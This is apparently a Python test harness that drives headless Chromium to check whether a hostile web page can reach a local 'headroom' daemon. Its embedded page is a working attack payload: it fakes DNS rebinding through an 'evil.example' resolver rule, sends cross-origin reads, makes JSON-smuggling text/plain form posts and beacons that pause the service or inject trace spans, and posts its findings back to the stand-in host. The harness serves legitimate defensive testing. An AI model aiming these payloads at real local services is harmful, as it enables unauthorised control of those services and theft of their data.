"""What a page of another origin gets from headroom in a real browser: headless Chromium opens pages that try everything a
page can do, and tell their own server what came of it.

HEADROOM_CHROMIUM names the browser, where it is not on the path; `apt-get install chromium` brings it.
"""

import http.server
import json
import os
import re
import shutil
import subprocess
import tempfile
import threading

PATIENCE_S = 60
# A name that is not this machine's; the browser is told that it resolves to it, as it does once somebody rebound it.
FOREIGN = "evil.example"

PAGE = """<!doctype html><title>page</title><body><script>
const api = %(api)s, otlp = %(otlp)s, token = %(token)s;
const order = JSON.stringify({by: "mallory", reason: "from a page"});
const spans = JSON.stringify({resourceSpans: [{scopeSpans: [{spans: [{traceId: "5b8efff798038103d269b633813fc60c",
  spanId: "eee19b7ec3c1b174", name: "mallory", startTimeUnixNano: "1", endTimeUnixNano: "2"}]}]}]});
const json = {"Content-Type": "application/json"}, plain = {"Content-Type": "text/plain"};
const bearer = {...json, Authorization: "Bearer " + token};
const read = async (url, options) => { const answer = await fetch(url, options); return answer.status + " " + await answer.text(); };
const loaded = (tag, url) => new Promise(resolve => {
  const element = document.createElement(tag);
  element.onload = () => { let text = ""; try { text = element.contentDocument ? element.contentDocument.body.innerText : ""; } catch (e) {} resolve("loaded " + text); };
  element.onerror = () => resolve("error");
  element.src = url;
  document.body.append(element);
  setTimeout(() => resolve("nothing"), 3000);
});
const form = (action, text) => new Promise(resolve => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "f" + Math.random(); frame.onload = () => setTimeout(() => resolve("sent"), 300);
  const middle = text.indexOf(":");
  form.method = "POST"; form.enctype = "text/plain"; form.action = action; form.target = frame.name;
  const input = document.createElement("input");
  input.name = text.slice(0, -2) + ", \\"x\\": \\""; input.value = "\\"}";
  form.append(input); document.body.append(frame, form); form.submit();
  setTimeout(() => resolve("sent"), 3000);
});
const attempts = {
  read: () => read(api + "/api/v1/status"),
  read_metrics: () => read(api + "/metrics"),
  read_with_token: () => read(api + "/api/v1/status", {headers: {Authorization: "Bearer " + token}}),
  read_opaque: async () => { const answer = await fetch(api + "/api/v1/status", {mode: "no-cors"}); return answer.type + " " + await answer.text(); },
  read_as_script: () => loaded("script", api + "/api/v1/status"),
  read_as_frame: () => loaded("iframe", api + "/api/v1/status"),
  read_as_image: () => loaded("img", api + "/metrics"),
  sql: () => read(api + "/api/v1/sql", {method: "POST", headers: json, body: JSON.stringify({query: "select * from spans"})}),
  pause: () => read(api + "/api/v1/pause", {method: "POST", headers: json, body: order}),
  pause_with_token: () => read(api + "/api/v1/pause", {method: "POST", headers: bearer, body: order}),
  pause_opaque: () => fetch(api + "/api/v1/pause", {method: "POST", mode: "no-cors", headers: plain, body: order}).then(a => a.type),
  pause_beacon: async () => String(navigator.sendBeacon(api + "/api/v1/pause", new Blob([order], {type: "text/plain"}))),
  pause_form: () => form(api + "/api/v1/pause", order),
  resume_form: () => form(api + "/api/v1/resume", order),
  spans: () => read(otlp + "/v1/traces", {method: "POST", headers: json, body: spans}),
  spans_opaque: () => fetch(otlp + "/v1/traces", {method: "POST", mode: "no-cors", headers: plain, body: spans}).then(a => a.type),
  spans_beacon: async () => String(navigator.sendBeacon(otlp + "/v1/traces", new Blob([spans], {type: "text/plain"}))),
  spans_form: () => form(otlp + "/v1/traces", spans),
};
(async () => {
  const results = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { results[name] = await attempt(); } catch (error) { results[name] = "refused: " + error.name; }
  }
  await fetch("/results", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


def chromium():
    names = ["chromium", "chromium-browser", "google-chrome"]
    return os.environ.get("HEADROOM_CHROMIUM") or next(filter(None, map(shutil.which, names)), None)


def command(directory, url, *more):
    return [chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
            "--disable-background-networking", f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1", f"--user-data-dir={directory}", *more, url]


class Pages:
    """The pages' own server."""

    def __init__(self):
        self.page, self.results, self.told = "", None, threading.Event()
        pages = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(pages.page.encode())

            def do_POST(self):
                pages.results = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                pages.told.set()
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def origin(self, host=FOREIGN):
        return f"http://{host}:{self.port}"

    def visit(self, daemon, host, token):
        """What came of each attempt of a page of this host; None where the browser did not get there."""
        literal = lambda text: json.dumps(text)
        self.page = PAGE % {"api": literal(f"http://127.0.0.1:{daemon.api}"), "otlp": literal(f"http://127.0.0.1:{daemon.http}"), "token": literal(token)}
        self.told.clear()
        self.results = None
        with tempfile.TemporaryDirectory(prefix="headroom-chromium-", ignore_cleanup_errors=True) as directory:
            browser = subprocess.Popen(command(directory, self.origin(host)), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            try:
                self.told.wait(PATIENCE_S)
            finally:
                browser.terminate()
                try:
                    browser.wait(10)
                except subprocess.TimeoutExpired:
                    browser.kill()
                    browser.wait()
        return self.results

    def close(self):
        self.server.shutdown()


def rebound(daemon, path):
    """What a page sees whose own name was made to mean this machine: the API asked by that name, as a document."""
    with tempfile.TemporaryDirectory(prefix="headroom-chromium-", ignore_cleanup_errors=True) as directory:
        asked = command(directory, f"http://{FOREIGN}:{daemon.api}{path}", "--dump-dom", "--virtual-time-budget=5000")
        return subprocess.run(asked, capture_output=True, text=True, timeout=PATIENCE_S).stdout


def has_read(result):
    """Whether an attempt brought something of headroom's: its answers have these words."""
    return bool(re.search(r'"mode"|"rows"|headroom_|"paused"', result or ""))
